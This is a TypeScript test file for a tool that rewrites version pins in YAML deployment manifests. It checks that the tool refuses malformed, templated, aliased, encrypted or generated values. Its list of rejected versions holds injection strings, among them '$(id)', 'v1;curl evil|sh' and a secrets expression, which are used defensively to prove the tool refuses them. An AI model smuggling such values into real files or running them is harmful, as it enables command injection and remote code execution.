// What every kind of manifest must withstand alike: versions that are none, values of every odd sort, files that are not ours to write.
import { describe, expect, test } from "vitest";
import { UserError } from "../../src/errors.ts";
import { KINDS } from "../../src/manifests/kinds.ts";
import type { Pin, PinScan } from "../../src/manifests/pin.ts";
import { rememberingReader } from "../../src/manifests/file-facts.ts";
import { rewritePins } from "../../src/manifests/rewrite.ts";
import { scanPins } from "../../src/manifests/scan.ts";
import { bytesOf, DIGEST, version } from "./given.ts";
import { EMBEDDED, SAMPLES } from "./samples.ts";

const ALL = [...SAMPLES, { ...EMBEDDED, kind: "values in a block of an Application" }];

/** A scan in which every guarded place is named. */
function scanNamed(file: string, text: string): PinScan {
  const files = new Map([[file, new TextEncoder().encode(text)]]);
  const first = scanPins(files, { scope: ["."] });
  const named = first.pins
    .filter((pin) => pin.guarded)
    .map(({ document, path, artifact }) => ({ document, path, artifact }));
  return named.length === 0 ? first : scanPins(files, { scope: ["."], reader: rememberingReader(() => named) });
}

function set(file: string, text: string, pin: Pin, to: string): string {
  const result = rewritePins(new Map([[file, new TextEncoder().encode(text)]]), [{ pin, to: version(to) }]).get(file);
  return result === undefined ? text : new TextDecoder().decode(result);
}

/** `null` when it is refused; every other error is thrown. */
function setOrRefuse(file: string, text: string, pin: Pin, to: string): string | null {
  try {
    return set(file, text, pin, to);
  } catch (error) {
    if (!(error instanceof UserError)) throw error;
    return null;
  }
}

function onlyPin(file: string, text: string): Pin {
  const { pins } = scanNamed(file, text);
  const [pin] = pins;
  if (pin === undefined || pins.length > 1) throw new Error(`expected one pin, found ${pins.length}`);
  return pin;
}

test("every kind of the table has a sample", () => {
  expect(SAMPLES.map((sample) => sample.kind)).toEqual(expect.arrayContaining(KINDS.map((kind) => kind.name)));
});

describe.each(ALL)("$kind", ({ file, text }) => {
  const line = text.slice(0, text.indexOf("1.2.3")).split("\n").length;
  const whole = `${text.split("\n")[line - 1]}\n`;
  /** The sample with another value; `before` stands in front of the file. */
  const valued = (value: string) => text.replace(/(?:acme\/app:)?1\.2\.3/, value);

  test("is found, and takes a version", () => {
    expect(onlyPin(file, text)).toMatchObject({ line, version: { tag: "1.2.3", digest: null } });
    expect(set(file, text, onlyPin(file, text), "1.2.4")).toBe(text.replace("1.2.3", "1.2.4"));
  });

  test.each([
    ["a line break and a key", "v1\n  injected: true"],
    ["a carriage return", "1.2.4\r"],
    ["a NUL", "1.2.4\0"],
    ["a space", "1.2.4 x"],
    ["a comment", "1.2.4 # x"],
    ["a flow map", "{a: b}"],
    ["a quote", '1.2.4"'],
    ["a shell's command", "$(id)"],
    ["two commands", "v1;curl evil|sh"],
    ["an expression", "${{ secrets.X }}"],
    ["a template", "{{ .Values.x }}"],
    ["an anchor", "&a"],
    ["an alias", "*a"],
    ["a tag of YAML", "!!int"],
    ["300 characters", "1.2.4-".padEnd(300, "x")],
    ["nothing", ""],
    ["a digest that is none", "1.2.4@sha256:abc"],
    ["a digest with more behind it", `1.2.4@${DIGEST}\n  x: y`],
    ["half a surrogate pair", "1.2.4-\ud800"],
    ["a line separator", "1.2.4\u2028"],
  ])("takes no version with %s", (_, to) => {
    const pin = onlyPin(file, text);
    expect(() => set(file, text, pin, to)).toThrow(UserError);
  });

  test("refuses a key that stands twice, naming both lines", () => {
    const twice = text.replace(whole, whole.repeat(2));
    const [pin, ...others] = scanNamed(file, twice).pins;
    expect(others).toEqual([]);
    expect(pin?.refusal).toContain(`lines ${line} and ${line + 1}`);
    expect(() => pin && set(file, twice, pin, "1.2.4")).toThrow("twice");
  });

  test.each(["{{ .Values.x }}", '"{{ .Values.x }}"', "'v{{ x }}'", "${TAG}", '"${TAG:=1.2.3}"'])(
    "does not write where %s stands",
    (value) => {
      const templated = valued(value);
      for (const pin of scanNamed(file, templated).pins) {
        expect(() => set(file, templated, pin, "1.2.4")).toThrow(UserError);
      }
    },
  );

  test.each([
    "",
    "~",
    "null",
    "[1.2.3]",
    "{a: 1.2.3}",
    "!!int 5",
    "!custom 1.2.3",
    "!!binary aGk=",
    "|\n              1.2.3",
    ">-\n              1.2.3",
    "? a",
    "&a 1.2.3",
    "&a",
    "*nothing",
    '"\\u0031.2.3"',
    '"1.2.3\\n"',
    "1.2.3\t# c",
    "''",
    '"  "',
    "-1",
    ".5",
    "2024-01-01",
    "acme/app",
    "acme/app:",
    "@",
    "a@b@c",
    "acme/app:1@sha256:",
    "http://x:1",
    "🚀",
    "a:b:c",
    "- x",
  ])("survives the value %s", (value) => {
    const odd = valued(value);
    for (const pin of scanNamed(file, odd).pins) {
      const changed = setOrRefuse(file, odd, pin, "1.2.4");
      const after = scanNamed(file, changed ?? odd).pins.find(({ path }) => path === pin.path);
      expect(after?.version).toEqual(changed === null ? pin.version : version("1.2.4"));
    }
  });

  test("does not change what an alias brings, or aliases share", () => {
    const brought = `x-v: &v 1.2.3\n${valued("*v")}`;
    for (const pin of scanNamed(file, brought).pins) {
      expect(pin.refusal).toContain("written in line 1");
      expect(() => set(file, brought, pin, "1.2.4")).toThrow("alias");
    }
    const indent = /^ */.exec(whole)?.[0] ?? "";
    const shared = valued("&v acme/app:1.2.3").replace(/(&v .*\n)/, `$1${indent}other: *v\n`);
    for (const pin of scanNamed(file, shared).pins) {
      expect(() => set(file, shared, pin, "1.2.4")).toThrow(UserError);
    }
  });

  test("refuses an encrypted document and a generated file, and still lists them", () => {
    const encrypted = `${text}sops:\n  mac: ENC[AES256_GCM,data:x]\n  lastmodified: "2026-01-01T00:00:00Z"\n`;
    expect(onlyPin(file, encrypted).refusal).toContain("SOPS");
    expect(() => set(file, encrypted, onlyPin(file, encrypted), "1.2.4")).toThrow("SOPS");
    const generated = `# Code generated by x. DO NOT EDIT.\n${text}`;
    expect(onlyPin(file, generated).refusal).toContain("generated");
    expect(() => set(file, generated, onlyPin(file, generated), "1.2.4")).toThrow("generated");
  });

  test("a file that cannot be read stops a change that needs it, and no other file's listing", () => {
    const pin = onlyPin(file, text);
    const bad: Readonly<Record<string, string | Uint8Array>> = {
      "an open bracket": `${text}a: [`,
      "a template": `{{ if .x }}\n${text}{{ end }}\n`,
      NUL: new Uint8Array([...new TextEncoder().encode(text), 0xff, 0]),
      "20,000 brackets": text + "[".repeat(20_000),
    };
    for (const [name, content] of Object.entries(bad)) {
      const bytes = typeof content === "string" ? new TextEncoder().encode(content) : content;
      const files = new Map([
        [file, bytes],
        ["good/kustomization.yaml", new TextEncoder().encode("images:\n- name: app\n  newTag: v1\n")],
      ]);
      const scan = scanPins(files, { scope: ["."] });
      expect(
        scan.problems.map((problem) => problem.file),
        name,
      ).toContain(file);
      expect(
        scan.pins.map((found) => found.file),
        name,
      ).toContain("good/kustomization.yaml");
      expect(() => rewritePins(files, [{ pin, to: version("1.2.4") }]), name).toThrow(UserError);
    }
  });

  test("a byte order mark, CRLF and no final newline stay as they are", () => {
    const odd = `\uFEFF${text.replaceAll("\n", "\r\n").replace(/\r\n$/, "")}`;
    const bytes = rewritePins(bytesOfOne(file, odd), [{ pin: onlyPin(file, odd), to: version("1.10.0") }]).get(file);
    expect(Buffer.from(bytes ?? []).toString("utf8")).toBe(odd.replace("1.2.3", "1.10.0"));
  });
});

function bytesOfOne(file: string, text: string): Map<string, Uint8Array> {
  return new Map([...bytesOf({ [file]: text })].flatMap(([path, bytes]) => (bytes === null ? [] : [[path, bytes]])));
}
